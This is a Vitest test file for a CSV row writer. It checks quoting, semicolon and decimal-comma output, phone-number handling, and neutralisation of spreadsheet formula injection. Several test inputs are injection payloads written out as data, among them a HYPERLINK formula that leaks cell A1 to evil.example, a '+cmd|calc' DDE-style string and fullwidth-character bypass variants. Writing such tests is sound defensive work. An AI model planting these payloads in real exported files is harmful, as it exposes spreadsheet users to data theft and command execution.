import { describe, expect, test } from 'vitest'
import { csvFormats, csvRow } from './csv.ts'

describe('a row of comma-separated values', () => {
  test('ends like a line and keeps numbers and gaps', () => {
    expect(csvRow(['a', 1, -2.5, null, ''])).toBe('a,1,-2.5,,\r\n')
  })

  test.each([
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['çãé 😀 مريم', 'çãé 😀 مريم'],
    ['a;b', 'a;b'],
  ])('holds %j as %j', (text, cell) => {
    expect(csvRow([text])).toBe(`${cell}\r\n`)
  })

  test.each([
    ['=1+1', "'=1+1"],
    ['+351 912 345 678', "'+351 912 345 678"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['  =1', "'  =1"],
    ['\u00a0=1', "'\u00a0=1"],
    ['\u200e=1', "'\u200e=1"],
    ['"=1', `"'""=1"`],
    ["'=1", "''=1"],
    [' " =1', `"' "" =1"`],
    ['＝1', "'＝1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠SUM', "'＠SUM"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
    ['a\n=1', `"a\n'=1"`],
    ['a;=1', "a;'=1"],
    ['a;"=1', `"a;'""=1"`],
    ['a\t=1', "a\t'=1"],
    [
      `=HYPERLINK("https://evil.example?"&A1,"Click")`,
      `"'=HYPERLINK(""https://evil.example?""&A1,""Click"")"`,
    ],
  ])('does not let %j be calculated', (text, cell) => {
    expect(csvRow([text])).toBe(`${cell}\r\n`)
  })

  test.each(['a=b', 'a + b', 'x - y', 'ana@example.com', '10:30', ''])('leaves %j as it is', (text) => {
    expect(csvRow([text])).toBe(`${text}\r\n`)
  })
})

describe('a row for an Excel that writes decimals with a comma', () => {
  const row = (...cells: Parameters<typeof csvRow>[0]) => csvRow(cells, csvFormats.semicolon)

  test('parts cells by semicolons, and writes numbers and amounts with a comma', () => {
    expect(row('a', 34.3, -2.5, 7, { euros: 116.6 }, null)).toBe('a;34,3;-2,5;7;116,60;\r\n')
  })

  test.each([
    ['a;b', '"a;b"'],
    ['a, b', 'a, b'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
  ])('holds %j as %j', (text, cell) => {
    expect(row(text)).toBe(`${cell}\r\n`)
  })

  test.each([
    ['=1+1', "'=1+1"],
    ['a;=1', `"a;'=1"`],
    // An English Excel would part the cell at the comma.
    ['a,=1', "a,'=1"],
    ['a,"=1', `"a,'""=1"`],
    ['a\n=1', `"a\n'=1"`],
    ['a\t@SUM(1)', "a\t'@SUM(1)"],
  ])('does not let %j be calculated', (text, cell) => {
    expect(row(text)).toBe(`${cell}\r\n`)
  })
})

describe.each(Object.entries(csvFormats))('a phone number in a file with a %s', (_, format) => {
  const cell = (phone: string) => csvRow([{ phone }], format).trimEnd()

  test.each(['+351 912 345 678', '+1 213 373 4253', '+44 20 7946 0958', '912345678', '289 000 000'])(
    'is %s as it is',
    (phone) => {
      expect(cell(phone)).toBe(phone)
    },
  )

  test.each([
    // A spreadsheet makes a number of it, without its plus.
    '+351912345678',
    '+351-912-345-678',
    '+351 912*2',
    '+351 912 345 678 =1',
    '+351  912',
    '+351 912 345 678+cmd|calc',
    '=1+1',
    '@SUM(A1)',
    '-351 912',
    '＋351 912 345 678',
  ])('that is %s gets an apostrophe', (phone) => {
    expect(cell(phone)).toBe(`'${phone}`)
  })

  test('with a second line starts no formula there', () => {
    expect(cell('+351 912 345 678\n=1')).toBe(`"'+351 912 345 678\n'=1"`)
  })
})
